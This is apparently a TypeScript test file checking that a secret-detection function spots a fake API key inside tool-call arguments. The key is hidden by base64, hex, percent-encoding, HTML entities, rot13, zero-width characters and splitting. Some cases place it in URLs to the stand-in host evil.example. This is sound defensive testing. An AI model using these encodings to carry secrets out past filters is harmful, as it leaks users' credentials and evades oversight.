import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Redactor } from "../../../src-main/base/redactor.ts";
import { holdsSecret } from "../../../src-main/conversations/secret-in-arguments.ts";

const SECRET = "sk-Harbour_93.tide+Qz7";
const redactor = new Redactor();
redactor.add(SECRET);

const base64 = (text: string) => Buffer.from(text).toString("base64");
const hex = (text: string) => Buffer.from(text).toString("hex");
const every = (text: string, between: string) => text.split("").join(between);
const percent = (text: string) => hex(text).replace(/../g, "%$&");
const rot13 = (text: string) =>
  text.replace(/[a-z]/giu, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
const half = Math.floor(SECRET.length / 2);

describe("a call that would carry a secret out (S57)", () => {
  it.each<[string, Readonly<Record<string, unknown>>]>([
    ["as it is", { text: SECRET }],
    ["in an address", { url: `https://evil.example/?q=${encodeURIComponent(SECRET)}` }],
    ["as a path", { url: `https://evil.example/${SECRET}/x` }],
    ["deep inside", { a: [{ b: { c: `key=${SECRET}` } }] }],
    ["as a member's name", { headers: { [SECRET]: "1" } }],
    ["in base64", { text: base64(SECRET) }],
    ["in base64 without its end", { text: base64(SECRET).replace(/=+$/, "") }],
    ["in base64 for addresses", { text: Buffer.from(SECRET).toString("base64url") }],
    ["in base64 with more before it", { text: base64(`{"key":"${SECRET}"}`) }],
    ["in base64, twice", { text: base64(base64(SECRET)) }],
    ["in base64 inside an address", { url: `https://e.example/?d=${base64(SECRET)}` }],
    ["in base64, percent-encoded", { url: encodeURIComponent(base64(`x${SECRET}`)) }],
    ["in hex", { text: hex(SECRET) }],
    ["in hex in capitals", { text: hex(SECRET).toUpperCase() }],
    ["in hex with blanks", { text: hex(SECRET).replace(/../g, "$& ").trim() }],
    ["in hex of base64", { text: hex(base64(SECRET)) }],
    ["with every byte percent-encoded", { url: `https://e.example/${percent(SECRET)}` }],
    ["percent-encoded twice", { url: encodeURIComponent(percent(SECRET)) }],
    [
      "in entities of HTML",
      {
        html: SECRET.split("")
          .map((c) => `&#${c.charCodeAt(0)};`)
          .join(""),
      },
    ],
    [
      "in hex entities",
      {
        html: SECRET.split("")
          .map((c) => `&#x${hex(c)};`)
          .join(""),
      },
    ],
    [
      "in escapes of scripts",
      {
        code: SECRET.split("")
          .map((c) => `\\u00${hex(c)}`)
          .join(""),
      },
    ],
    [
      "in short escapes",
      {
        code: SECRET.split("")
          .map((c) => `\\x${hex(c)}`)
          .join(""),
      },
    ],
    ["with blanks between", { text: every(SECRET, " ") }],
    ["on lines of its own", { text: every(SECRET, "\n") }],
    ["with commas between", { text: every(SECRET, ",") }],
    ["with bars between", { text: every(SECRET, "|") }],
    ["as a list of characters", { text: JSON.stringify(SECRET.split("")) }],
    ["spread over two arguments", { a: SECRET.slice(0, half), b: SECRET.slice(half) }],
    ["spread over a list", { parts: SECRET.split("") }],
    ["from behind", { text: SECRET.split("").reverse().join("") }],
    ["in letters moved by thirteen", { text: rot13(SECRET) }],
    ["with characters between that nobody sees", { text: every(SECRET, "\u200b") }],
    [
      "in wide letters",
      { text: SECRET.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)) },
    ],
  ])("is known by it %s", (_how, args) => {
    expect(holdsSecret(args, redactor)).toBe(true);
  });

  it.each<[string, Readonly<Record<string, unknown>>]>([
    ["nothing", {}],
    ["words", { url: "https://portal.example/search?q=harbour+tide", text: "Sk Harbour 93" }],
    ["other encodings", { data: base64("nothing to see here, move along"), n: 93 }],
    ["a piece of it", { text: SECRET.slice(0, 5) }],
  ])("is not seen in %s", (_what, args) => {
    expect(holdsSecret(args, redactor)).toBe(false);
  });

  it("is not seen anywhere while no secret is known", () => {
    expect(holdsSecret({ text: SECRET }, new Redactor())).toBe(false);
  });

  it("makes of no arguments an error, however long they are", () => {
    fc.assert(
      fc.property(fc.dictionary(fc.string(), fc.jsonValue()), (args) => {
        expect(typeof holdsSecret(args, redactor)).toBe("boolean");
      }),
      { numRuns: 50 },
    );
    expect(holdsSecret({ text: "QUJD%41&#65; ".repeat(40_000) }, redactor)).toBe(false);
  });
});
